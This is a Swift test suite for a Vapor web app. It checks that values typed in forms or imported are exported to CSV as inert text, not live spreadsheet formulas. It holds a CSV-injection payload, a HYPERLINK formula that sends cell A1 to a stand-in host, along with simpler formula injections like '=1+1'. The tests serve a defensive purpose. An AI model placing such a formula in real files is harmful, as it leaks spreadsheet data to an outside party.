@testable import App
import ConsoleKit
import CSV
import Foundation
import Testing
import Vapor
import VaporTesting

/// Issue 7 §4: values typed in forms or imported reach every CSV export as text,
/// never as a live spreadsheet formula (`SpreadsheetCell`, one writer: `CSVExport`).
@Suite struct CSVInjectionTests {
    static let leak = #"=HYPERLINK("http://exemple.invalid/?leak="&A1,"clic")"#

    @Test func aStatusCommentIsTextInSuiviAndBilanCSV() async throws {
        try await withApp { app in
            SuiviFixture.setClock(app, year: 2023)
            let coordinateur = try await signIn(app, as: .coordinateur)
            let saved = try await coordinateur.post(try await SuiviFixture.statusPath("1-2-3-A", app),
                                                    ["year": "2023", "status": "en_cours", "comment": Self.leak, "date": "2023-05-02"])
            #expect(saved.status == .seeOther)

            let suivi = try Self.rows(try await coordinateur.get(Seed.ref.url(.suiviCSV).path), delimiter: ";")
            let suiviRow = try #require(suivi.first { $0.contains("1-2-3-A") })
            #expect(suiviRow.contains("'" + Self.leak))
            #expect(!suiviRow.contains(Self.leak))

            let bilan = try Self.rows(try await coordinateur.get(Seed.ref.url(.bilanCSV(year: 2023)).path), delimiter: ";")
            let bilanRow = try #require(bilan.first { $0.contains("1-2-3-A") })
            #expect(bilanRow.contains("'" + Self.leak))
            // `ctg bilan --format csv` writes the same bytes.
            let command = try await BilanExport.render(.csv, year: "2023", conventionID: nil, app: app)
            #expect(String(decoding: command, as: UTF8.self).contains("'" + Self.leak.replacingOccurrences(of: "\"", with: "\"\"")))
        }
    }

    @Test func aDeliberationNumberAndSubjectAreTextInThePublicSCDLExport() async throws {
        try await withApp { app in
            let browser = try await signIn(app, as: .coordinateur)
            let roster = try await RegisterFixture.roster(app)
            let form = RegisterFixture.seanceForm(roster, date: "2023-03-15", convokedOn: "2023-03-08", fields: [
                "declaredPresent": "53", "declaredVoters": "53", "number": "=1+1", "subject": "@SUM(1+1)",
                "pour": "50", "contre": "3", "abstentions": "0",
            ])
            let saved = try await browser.post("/pays-de-saint-eloy/seances", form)
            #expect(saved.status == .seeOther, "\(saved.body.string)")

            let rows = try Self.rows(try await Browser(app).get(Seed.ref.url(.deliberationsCSV).path), delimiter: ",")
            let row = try #require(rows.first { $0.contains("'=1+1") })
            #expect(row[2] == "'=1+1")
            #expect(row[6] == "'@SUM(1+1)")
            // Numbers stay numbers: the vote counts are untouched.
            #expect(Array(row[11...15]) == ["53", "53", "50", "3", "0"])
        }
    }

    @Test func anImportedTitleIsTextInThePlanCSVAndTheExportCommand() async throws {
        let seed = try String(contentsOfFile: TestPaths.seedDocument, encoding: .utf8)
        let hostile = seed.replacingOccurrences(of: "Harmoniser les tarifs", with: "-2+3 Harmoniser les tarifs")
        try await withApp(seeded: false) { app in
            _ = try await PlanImporter.run(try DocumentSource.parse(data: Data(hostile.utf8)), sourceName: "hostile.txt", on: app.db)
            let rows = try Self.rows(try await Browser(app).get(Seed.ref.url(.planCSV).path), delimiter: ";")
            let row = try #require(rows.first { $0[4] == "2-1-1-B" })
            #expect(row[5] == "'-2+3 Harmoniser les tarifs")

            let output = FileManager.default.temporaryDirectory.appendingPathComponent("ctg-export-\(UUID().uuidString).csv").path
            defer { try? FileManager.default.removeItem(atPath: output) }
            var context = CommandContext(console: Terminal(), input: CommandInput(arguments: ["ctg", "--format", "csv", "--output", output]))
            context.application = app
            try await ExportCommand().run(using: &context)
            let written = try String(contentsOfFile: output, encoding: .utf8)
            #expect(written.contains(";'-2+3 Harmoniser les tarifs;"))
            #expect(!written.contains(";-2+3 Harmoniser les tarifs;"))
        }
    }

    /// The data rows of a CSV response (byte-order mark and header dropped).
    static func rows(_ response: TestingHTTPResponse, delimiter: UnicodeScalar) throws -> [[String]] {
        #expect(response.status == .ok)
        var bytes = Array(response.body.readableBytesView)
        if bytes.starts(with: [0xEF, 0xBB, 0xBF]) { bytes.removeFirst(3) }
        let reader = try CSVReader(string: String(decoding: bytes, as: UTF8.self), hasHeaderRow: true, delimiter: delimiter)
        var rows: [[String]] = []
        while let row = reader.next() { rows.append(row) }
        return rows
    }
}
